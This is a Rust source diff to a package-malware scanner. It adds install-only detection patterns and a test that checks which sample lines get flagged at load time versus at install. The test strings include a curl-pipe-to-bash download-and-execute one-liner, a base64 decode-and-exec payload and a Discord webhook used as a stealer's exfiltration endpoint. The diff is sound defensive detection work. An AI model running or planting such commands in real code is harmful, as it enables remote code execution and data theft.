@@ -109,6 +109,11 @@ pub struct Rule {
     pub runs: Vec<Runs>,
     #[serde(default)]
     patterns: Vec<String>,
+    /// Patterns that do not apply to the runtime surface: shapes that
+    /// libraries' own code and documentation have (`module._compile` in
+    /// require hooks, `curl … | sh` in a docstring).
+    #[serde(default)]
+    install_only_patterns: Vec<String>,
     #[serde(default = "one")]
     min_matches: usize,
     #[serde(default = "regex_kind")]
@@ -164,8 +169,9 @@ struct RulesFile {
 pub struct RuleSet {
     rules: Vec<Rule>,
     set: RegexSet,
-    /// For each pattern of `set`: its rule and its own regex (to locate it).
-    patterns: Vec<(usize, Regex)>,
+    /// For each pattern of `set`: its rule, its own regex (to locate it),
+    /// and whether it is for install-time code only.
+    patterns: Vec<(usize, Regex, bool)>,
 }
 
 /// The built-in rules file, as compiled in.
@@ -190,14 +196,19 @@ impl RuleSet {
             if !ids.insert(rule.id.clone()) {
                 return Err(Error::DuplicateId(rule.id.clone()));
             }
-            for p in &rule.patterns {
+            let all = rule
+                .patterns
+                .iter()
+                .map(|p| (p, false))
+                .chain(rule.install_only_patterns.iter().map(|p| (p, true)));
+            for (p, install_only) in all {
                 let re = Regex::new(p).map_err(|e| Error::Pattern {
                     rule: rule.id.clone(),
                     pattern: p.clone(),
                     message: e.to_string(),
                 })?;
                 sources.push(p.clone());
-                patterns.push((i, re));
+                patterns.push((i, re, install_only));
             }
         }
         let set = RegexSet::new(&sources).map_err(|e| Error::Pattern {
@@ -265,8 +276,8 @@ impl RuleSet {
         for (n, line) in text.lines().enumerate() {
             let n = n as u32 + 1;
             for p in self.set.matches(line).iter() {
-                let (rule, re) = &self.patterns[p];
-                if !applies(&self.rules[*rule]) {
+                let (rule, re, install_only) = &self.patterns[p];
+                if !applies(&self.rules[*rule]) || (*install_only && runs == Runs::Import) {
                     continue;
                 }
                 for m in re.find_iter(line) {
@@ -301,7 +312,14 @@ impl RuleSet {
                 Finding {
                     rule: rule.id.clone(),
                     level: rule.level,
-                    summary: rule.description.clone(),
+                    summary: if runs == Runs::Import {
+                        format!(
+                            "{} (in code that runs when the package is loaded, not at install)",
+                            rule.description
+                        )
+                    } else {
+                        rule.description.clone()
+                    },
                     file: path.to_owned(),
                     line: Some(line),
                     excerpt,
@@ -508,6 +526,55 @@ mod tests {
             ),
             Err(Error::DuplicateId(_))
         ));
+    }
+
+    #[test]
+    fn the_runtime_surface_reads_only_what_no_library_needs() {
+        let set = RuleSet::builtin();
+        let rules = |runs, text: &str| -> Vec<String> {
+            set.check_text("pypi", runs, "pkg/__init__.py", text)
+                .into_iter()
+                .map(|f| format!("{}:{:?}", f.rule, f.level))
+                .collect()
+        };
+        // A decoded payload is a deny wherever it runs, and says when.
+        let payload = "exec(base64.b64decode('cHJpbnQoMSk='))";
+        assert_eq!(rules(Runs::Import, payload), ["decode-and-execute:Deny"]);
+        let found = set.check_text("pypi", Runs::Import, "pkg/__init__.py", payload);
+        assert!(
+            found[0].summary.contains("when the package is loaded"),
+            "{found:?}"
+        );
+        // What libraries do in their own code is not read on load.
+        for text in [
+            "subprocess.run(['git', 'status'])",
+            "requests.post(url, json=body)",
+            "# install with: curl -LsSf https://x.example.org/install.sh | bash",
+            "return self._compile(source, filename)",
+            "return [['sh', '-i', '-l', '-c', 'echo $PATH']]",
+            "url='https://webhook.site/a2176e82'  # an example in a docstring",
+            "\"ap.ngrok.io\",",
+            "__all__ = ['Cookies']",
+            "base_url: str = \"https://api.telegram.org/bot\",",
+        ] {
+            assert!(rules(Runs::Import, text).is_empty(), "{text}");
+        }
+        // A stealer's drop box is one wherever it is named.
+        assert_eq!(
+            rules(
+                Runs::Import,
+                "WEBHOOK = 'https://discord.com/api/webhooks/1/x'"
+            ),
+            ["exfiltration-endpoint:Deny"]
+        );
+        // The same shell one-liner at install is still a deny.
+        assert!(
+            rules(
+                Runs::Install,
+                "curl -fsSL https://x.example.org/i.sh | bash"
+            )
+            .contains(&"download-and-execute:Deny".to_owned())
+        );
     }
 }
 
